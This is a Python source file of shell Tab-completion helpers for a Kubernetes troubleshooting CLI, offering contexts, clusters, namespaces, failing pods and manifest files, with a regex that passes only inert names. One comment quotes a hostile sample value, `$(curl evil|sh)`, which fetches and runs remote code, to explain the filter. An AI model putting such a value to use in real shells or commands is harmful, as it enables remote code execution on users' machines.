"""What the shell offers on Tab: clusters, contexts, namespaces, failing pods and manifests.

Fast and silent: whatever goes wrong, or takes longer than two seconds, offers nothing. A line of text in
the middle of a person's typing would be worse than no help.
"""

import contextlib
import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import typer


_PATIENCE_S = 2.0
# The shell puts a candidate into the line as it stands, and a dump's names are a stranger's: `$(curl evil|sh)`.
# What the API allows passes, and so do contexts such as arn:aws:eks:eu-west-1:123456789012:cluster/prod.
_INERT = re.compile(r"[A-Za-z0-9_.:/@+=,%][A-Za-z0-9_.:/@+=,%-]*")
_MANIFESTS = (".yaml", ".yml", ".json")
_PLATFORMS = ("linux/amd64", "linux/arm64", "linux/arm/v7", "linux/ppc64le", "linux/s390x", "windows/amd64")
# kubectl's own kinds, in the spelling people type.
_KINDS = ("deploy/", "sts/", "ds/", "job/", "cj/", "rs/", "po/")


def contexts(context: typer.Context, incomplete: str) -> list[str]:
    """Contexts of the kubeconfig."""

    def ask() -> Iterable[str]:
        from bot import wiring  # noqa: PLC0415  # heavy: only where it is used

        return wiring.contexts(context.params.get("kubeconfig"))

    return _offered(ask, incomplete)


def clusters(context: typer.Context, incomplete: str) -> list[str]:
    """Clusters of the settings file."""

    def ask() -> Iterable[str]:
        from bot import settings  # noqa: PLC0415  # heavy: only where it is used

        return settings.load(context.params.get("config")).clusters

    return _offered(ask, incomplete)


def namespaces(context: typer.Context, incomplete: str) -> list[str]:
    """Namespaces of the cluster or dump that the line names so far."""

    def ask() -> Iterable[str]:
        from bot.cli import session  # noqa: PLC0415  # heavy: only where it is used

        return session.namespaces_for_completion(_words(context), _PATIENCE_S)

    return _offered(ask, incomplete)


def targets(context: typer.Context, incomplete: str) -> list[str]:
    """Failing pods of the cluster or dump that the line names so far, and the kinds one can write."""

    def ask() -> Iterable[str]:
        from bot.cli import session  # noqa: PLC0415  # heavy: only where it is used

        return session.failing_for_completion(_words(context), _PATIENCE_S)

    return [
        *_offered(ask, incomplete),
        *(kind for kind in _KINDS if incomplete and kind.startswith(incomplete)),
    ]


def manifests(_context: typer.Context, incomplete: str) -> list[str]:
    """Files that may hold manifests, and folders."""

    def ask() -> Iterable[str]:
        folder, slash, begun = incomplete.rpartition("/")
        for place in Path(folder + slash or ".").iterdir():
            if place.name.startswith(".") and not begun:
                continue
            if place.is_dir():
                yield f"{folder}{slash}{place.name}/"
            elif place.suffix in _MANIFESTS:
                yield f"{folder}{slash}{place.name}"

    return _offered(ask, incomplete)


def platforms(_context: typer.Context, incomplete: str) -> list[str]:
    """What most nodes run."""
    return _offered(lambda: _PLATFORMS, incomplete)


def causes(_context: typer.Context, incomplete: str) -> list[str]:
    """Ids of the shipped causes."""

    def ask() -> Iterable[str]:
        from bot import wiring  # noqa: PLC0415  # heavy: only where it is used

        return [path.name for path in (wiring.shipped_playbooks() / "causes").iterdir() if path.is_dir()]

    return _offered(ask, incomplete)


def _words(context: typer.Context) -> dict[str, Any]:
    """The options typed so far; a path is a path whether typer has converted it yet or not."""
    words = dict(context.params)
    for name in ("kubeconfig", "config", "source"):
        if isinstance(words.get(name), str):
            words[name] = Path(words[name])
    return words


def _offered(ask: Callable[[], Iterable[str]], incomplete: str) -> list[str]:
    with contextlib.suppress(Exception):
        return sorted(each for each in ask() if each.startswith(incomplete) and _INERT.fullmatch(each))
    return []
